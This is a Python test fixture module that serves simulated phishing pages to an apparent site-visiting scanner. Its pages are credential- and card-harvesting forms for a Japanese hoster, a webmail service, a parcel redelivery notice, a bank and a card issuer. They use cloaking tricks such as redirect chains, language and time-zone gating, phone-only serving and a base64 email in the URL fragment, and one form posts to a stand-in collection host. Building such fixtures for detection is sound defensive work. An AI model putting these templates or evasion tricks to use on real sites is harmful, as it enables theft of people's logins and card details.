"""Sites that want a secret, each with a trick of its own."""

from __future__ import annotations

from tests.visit.sites.serving import Answer, Request, sent_to

_STYLE = """<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><style>
body{font-family:sans-serif;background:#eef2f6;margin:0}main{max-width:26em;margin:3em auto;background:#fff;padding:2em;border-radius:8px}
h1{font-size:1.2em;color:#0a4a7a}label{display:block;margin:.8em 0 .2em}input{width:100%;padding:.5em;box-sizing:border-box}
button{margin-top:1.2em;width:100%;padding:.7em;background:#0a4a7a;color:#fff;border:0}</style>"""

_HOSTER = (
    """<!DOCTYPE html><html lang="ja"><head>"""
    + _STYLE
    + """<meta name="robots" content="noindex,nofollow">
<title>なぎさサーバー | サーバーコントロールパネル ログイン</title></head><body oncontextmenu="return false"><main>
<svg width="160" height="32" role="img" aria-label="なぎさサーバー"><rect width="160" height="32" rx="6" fill="#0a4a7a"/>
<text x="14" y="22" fill="#fff" font-size="15">なぎさサーバー</text></svg>
<h1>サーバーコントロールパネル</h1><p>メールサーバーの利用容量が上限に達しました。ログインして容量を更新してください。</p>
<form method="post" action="next.php"><label for="s">サーバー名</label><input id="s" name="servername" placeholder="例）nagisa01">
<label for="u">アカウント名</label><input id="u" name="user" autocomplete="username">
<label for="p">パスワード</label><input id="p" name="pass" type="password"><button>ログイン</button></form>
<small>© なぎさサーバー</small></main></body></html>"""
)


def hoster_login(request: Request) -> Answer:
    """The login of a hoster, in Japanese."""
    return Answer(_HOSTER)


def chain(request: Request) -> Answer:
    """HTTP redirect, then one by a meta element, then one by a script, then a form."""
    if request.path == "/":
        return sent_to("http://chain-two.test/go?id=7f3a", 301)
    if request.path == "/go":
        return Answer(
            '<html><head><meta http-equiv="refresh" content="0; url=http://chain-three.test/s"></head></html>'
        )
    if request.path == "/s":
        return Answer(
            "<html><body>…<script>setTimeout(function(){location.replace('/login/')},200)</script></body></html>"
        )
    return Answer(
        f"""<html lang="en"><head>{_STYLE}<title>Webmail sign in</title></head><body><main><h1>Webmail</h1>
<p>Your session has expired. Please sign in with your account to release 7 held messages.</p>
<form method="post" action="http://collect.test/send.php"><label>Email address <input type="email" name="email"></label>
<label>Password <input type="password" name="password"></label><button>Sign in</button></form></main></body></html>"""
    )


def japan_only(request: Request) -> Answer:
    """Serves its form to Japanese browsers alone: language of the request, then language and time zone by script."""
    if not request.japanese:
        return sent_to("http://example.com/")
    return Answer(
        f"""<html lang="ja"><head>{_STYLE}<title>お荷物の再配達のご依頼</title></head><body><main id="m"></main><script>
var tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
if (tz !== "Asia/Tokyo" || navigator.language.indexOf("ja") !== 0) {{ location.href = "http://example.com/"; }}
else document.getElementById("m").innerHTML = '<h1>とどけ丸 再配達</h1><p>不在のため持ち帰りました。本人確認をお願いします。</p>' +
 '<form method="post" action="/post.php"><label>電話番号<input type="tel" name="tel"></label>' +
 '<label>暗証番号<input type="password" name="ansho" maxlength="4"></label><button>次へ</button></form>';
</script></body></html>"""
    )


def fragment(request: Request) -> Answer:
    """Blank, unless the link's fragment names somebody; then a form that greets them."""
    return Answer(
        f"""<html lang="en"><head>{_STYLE}<title></title></head><body><main id="m" hidden></main><script>
var email = ""; try {{ email = atob(location.hash.substring(1)); }} catch (error) {{ }}
if (email.indexOf("@") > 0) {{
 var domain = email.split("@")[1]; document.title = domain + " - Mail verification";
 var m = document.getElementById("m"); m.hidden = false;
 m.innerHTML = '<h1>' + domain + '</h1><p>Confirm your password to keep your mailbox.</p><form method="post" action="verify.php">' +
 '<label>Email<input name="email" readonly></label><label>Password<input name="pwd" type="password"></label><button>Continue</button></form>';
 m.querySelector("input").value = email; }}
</script></body></html>"""
    )


def phone_only(request: Request) -> Answer:
    """Not found, unless a phone comes."""
    if not request.phone:
        return Answer("<html><head><title>404 Not Found</title></head><body><h1>Not Found</h1></body></html>", 404)
    return Answer(
        f"""<html lang="ja"><head>{_STYLE}<title>ほしぞら銀行 ログイン</title></head><body><main><h1>ほしぞら銀行</h1>
<form method="post" action="/login1.php"><label>支店番号<input name="shiten" inputmode="numeric"></label>
<label>口座番号<input name="koza" inputmode="numeric"></label><label>ログインパスワード<input name="pw" type="password"></label>
<button>ログイン</button></form></main></body></html>"""
    )


def card(request: Request) -> Answer:
    """A card, with all that is on it, and a code by SMS as the second step of the same page."""
    boxes = "".join(
        f'<input name="d{number}" maxlength="1" inputmode="numeric" style="width:2.4em">' for number in range(6)
    )
    return Answer(
        f"""<html lang="ja"><head>{_STYLE}<title>MyJCB 本人認証</title></head><body><main><h1>カード情報のご確認</h1>
<p>ご利用を一時的に制限しています。カード情報を再登録してください。</p><form method="post" action="card.php">
<label>カード番号<input name="cardNumber" inputmode="numeric" maxlength="19"></label>
<label>有効期限<input name="exp" placeholder="MM/YY"></label><label>セキュリティコード<input name="cvv" maxlength="4"></label>
<label>カード名義<input name="holder"></label><label>生年月日<input name="birth" type="date"></label><button>次へ</button></form>
<form method="post" action="otp.php"><p>SMSで届いた認証コードを入力してください。</p>{boxes}<button>送信</button></form></main></body></html>"""
    )


def self_signed(request: Request) -> Answer:
    """The same login behind a certificate that it has made itself."""
    return Answer(_HOSTER)


def open_folder(request: Request) -> Answer:
    """A folder that was left open, with the kit in it."""
    if request.path.endswith(".zip"):
        return Answer(b"PK\x05\x06" + b"\0" * 18, type="application/zip")
    return Answer(
        """<html><head><title>Index of /wp-includes/css</title></head><body><h1>Index of /wp-includes/css</h1><pre>
      <a href="?C=N;O=D">Name</a>                    <a href="?C=M;O=A">Last modified</a>      <a href="?C=S;O=A">Size</a><hr>
      <a href="/">Parent Directory</a>                             -
      <a href="nagisa/">nagisa/</a>                 2026-11-02 04:11    -
      <a href="nagisa.zip">nagisa.zip</a>              2026-11-02 04:10  1.2M
      <a href="log.txt">log.txt</a>                 2026-11-03 09:40  3.4K
<hr></pre></body></html>"""
    )
